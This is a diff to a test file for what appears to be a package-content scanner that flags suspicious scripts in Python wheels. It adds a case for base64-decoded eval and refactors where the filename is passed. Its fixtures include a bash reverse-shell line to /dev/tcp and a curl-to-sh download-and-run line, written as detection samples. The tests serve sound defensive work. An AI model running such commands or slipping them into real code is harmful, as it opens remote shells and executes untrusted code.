@@ -6,9 +6,9 @@ const PURE = 'demo-1.0-py3-none-any.whl';
 const PLATFORM = 'demo-1.0-cp311-cp311-manylinux_2_28_x86_64.whl';
 
 function seen(path: string, content: string, { isNative = false, filename = PURE } = {}): string[] {
-  const files = createOtherFiles();
+  const files = createOtherFiles(filename);
   files.add(path, Buffer.from(content), isNative);
-  const findings = files.findings(filename);
+  const findings = files.findings();
   assert.ok(findings.every(({ effect }) => effect === 'note'));
   return findings.map(({ code, line, context }) =>
     [code, line, context].filter((part) => part !== undefined).join(' '),
@@ -43,6 +43,12 @@ for (const [why, path, content, expected] of [
     'bash -i >& /dev/tcp/192.0.2.1/99 0>&1\n',
     ['script 1 bash -i >& /dev/tcp/192.0.2.1/99 0>&1'],
   ],
+  [
+    'decoded JavaScript that is run',
+    'demo/index.js',
+    "const x = 1;\neval(Buffer.from('YQ==', 'base64').toString());\n",
+    ["script 2 eval(Buffer.from('YQ==', 'base64').toString());"],
+  ],
   ['no plain download', 'demo/up.sh', 'curl -O https://x.invalid/data.csv\n', []],
   ['no comment', 'demo/up.sh', '# curl -s https://x.invalid/a | sh\n', []],
   ['no text that is no script', 'demo/README.md', 'curl -s https://x.invalid/a | sh\n', []],
@@ -60,7 +66,7 @@ for (const [why, path, filename, expected] of [
 }
 
 test('says a few of many', () => {
-  const files = createOtherFiles();
+  const files = createOtherFiles(PURE);
   for (let i = 0; i < 100; i++) files.add(`demo/tool${i}`, undefined, true);
-  assert.equal(files.findings(PURE).length, 5);
+  assert.equal(files.findings().length, 5);
 });
